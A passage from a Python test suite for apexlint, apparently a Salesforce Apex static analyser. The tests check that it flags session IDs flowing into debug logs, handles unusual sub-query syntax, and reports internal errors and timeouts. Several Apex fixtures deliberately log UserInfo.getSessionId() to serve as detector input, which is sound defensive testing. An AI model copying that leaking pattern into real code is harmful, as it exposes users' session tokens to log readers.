        System.debug('at 2014-09-28T00:00:00.000+0000 ' + UserInfo.getSessionId());
        return a;
    }
}
"""
    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/triggers/CaseSync.trigger": trigger.encode(),
                                  f"{SFDX_SOURCE}/classes/SurveyDates.cls": cls.encode()})
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    assert result.notifications == ()
    assert sorted((f.location.path.rsplit("/", 1)[-1], f.rule_id, f.location.span.start_line)
                  for f in result.findings) == [("CaseSync.trigger", "SID003", 2), ("SurveyDates.cls", "SID003", 6)]


def test_an_alias_after_a_relationship_sub_query_is_read_without_a_parse_note(tmp_path: Path) -> None:
    """`(SELECT … FROM Rel__r) alias` in a SELECT list: the platform's grammar takes (and ignores)
    a name there, tree-sitter-apex refuses it. Blanked before parsing, positions unchanged: no
    parse note, and a finding after it keeps its line and column."""
    cls = """public with sharing class RepProfiles {
    public static void load(Id rep) {
        List<Account> a = [SELECT Id, (SELECT Id, Rating__c FROM Reviews__r) rv, Name FROM Account WHERE Id = :rep];
        List<Lead> b = [Select l.Id,(Select CampaignId From CampaignMembers)members From Lead l LIMIT 1];
        List<Account> c = [SELECT Id, (SELECT Id FROM Contacts WHERE Title IN ('A', 'B') LIMIT 1) primary_contact,
                           (SELECT Id FROM Cases) FROM Account];
        System.debug('loaded ' + UserInfo.getSessionId());
    }
}
"""
    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/RepProfiles.cls": cls.encode()})
    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
    assert result.notifications == ()
    assert [(f.rule_id, f.location.span.start_line, f.location.span.start_col) for f in result.findings] \
        == [("SID003", 7, 9)]


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
def test_a_value_gathering_thousands_of_sessions_is_reported_within_seconds(tmp_path: Path) -> None:
    """A value that gathers many sessions (`x += UserInfo.getSessionId();` line after line) and
    reaches a sink is reported once per source, each compared with what the sink had already
    been reported with once for them all: 1,500 such lines took 27 s, most of it comparing."""
    count = 1500
    cls = ("public with sharing class Gather {\n    public static void run() {\n        String x = '';\n"
           + "        x += UserInfo.getSessionId();\n" * count
           + "        System.debug(x);\n        System.debug(x);\n    }\n}\n")
    rel = f"{SFDX_SOURCE}/classes/Gather.cls"
    root = write_sfdx_package(tmp_path / "pkg", {rel: cls.encode()})
    with deadline(12.0):
        result = scan(ScanOptions(paths=(root,), root=root, jobs=1))
    assert sorted({(f.rule_id, f.location.span.start_line) for f in result.findings}) \
        == [("SID003", count + 4), ("SID003", count + 5)]
    assert [v.rule_ids for v in result.verdicts if v.path == rel] == [("SID003",)] * count


def test_a_method_whose_data_flow_fails_is_a_notification_and_the_other_findings_stay(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, good_alone: list[tuple[object, ...]]) -> None:
    """An apexlint bug met while following one method's data flow loses that method's flows
    only: an internal-error note names it, and the rest of the package is reported as before."""
    from apexlint.analyses import dataflow
    broken = ("public with sharing class Broken {\n    public static void run() {\n"
              "        System.debug(UserInfo.getSessionId());\n    }\n}\n")
    rel = f"{SFDX_SOURCE}/classes/Broken.cls"
    root = write_sfdx_package(tmp_path / "pkg", {GOOD_REL: GOOD_CLASS.read_bytes(), rel: broken.encode()})
    execute = dataflow._MethodRun.execute

    def failing(run: dataflow._MethodRun) -> tuple[dataflow.Summary, set[tuple[str, str]]]:
        if run.info.path == rel:
            raise ZeroDivisionError("a bug in apexlint")
        return execute(run)

    monkeypatch.setattr(dataflow._MethodRun, "execute", failing)
    result, _ = _scan(root)
    assert findings_in(result, GOOD_REL) == good_alone
    errors = [n for n in result.notifications if n.code == "internal-error"]
    assert [(n.path, n.span.start_line if n.span else None) for n in errors] == [(rel, 2)]
    assert "Broken.run" in errors[0].message and "ZeroDivisionError" in errors[0].message
    assert rel in {v.path for v in result.verdicts}  # its session still ends in a verdict


class _Ticks:
    """A clock for the data flow that moves one second each time it is read."""

    def __init__(self) -> None:
        self.now = 0.0

    def perf_counter(self) -> float:
        self.now += 1.0
        return self.now


def test_a_method_whose_data_flow_runs_past_the_limit_is_a_notification_and_the_other_findings_stay(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, good_alone: list[tuple[object, ...]]) -> None:
    """The analysis stage has a time limit per method too (the file limit, `file_timeout`): a method
    too large or hostile to follow in time is left out with a note, and the scan goes on. The
    clock here moves a second per statement, so a long body runs out and the others do not."""
    from apexlint.analyses import dataflow
    long = ("public with sharing class Long {\n    public static void run() {\n        String x = '';\n"
            + "        x += UserInfo.getSessionId();\n" * 40 + "        System.debug(x);\n    }\n}\n")
    rel = f"{SFDX_SOURCE}/classes/Long.cls"
    root = write_sfdx_package(tmp_path / "pkg", {GOOD_REL: GOOD_CLASS.read_bytes(), rel: long.encode()})
    monkeypatch.setattr(dataflow, "time", _Ticks())
    result = scan(ScanOptions(paths=(root,), root=root, jobs=1, file_timeout=30.0))
    assert findings_in(result, GOOD_REL) == good_alone
    left = [f for f in result.findings if f.location.path.endswith(rel)]
    assert {f.rule_id for f in left} == {"SID011"} and len(left) == 40  # every source ends in a verdict,
    assert all("stopped following" in f.message for f in left)  # which says why, not "remove it"
    late = [n for n in result.notifications if n.code == "analysis-timeout"]
    assert [(n.path, n.span.start_line if n.span else None) for n in late] == [(rel, 2)]
    assert "Long.run" in late[0].message and "30-second limit" in late[0].message
    assert rel in {v.path for v in result.verdicts}  # its sessions still end in a verdict
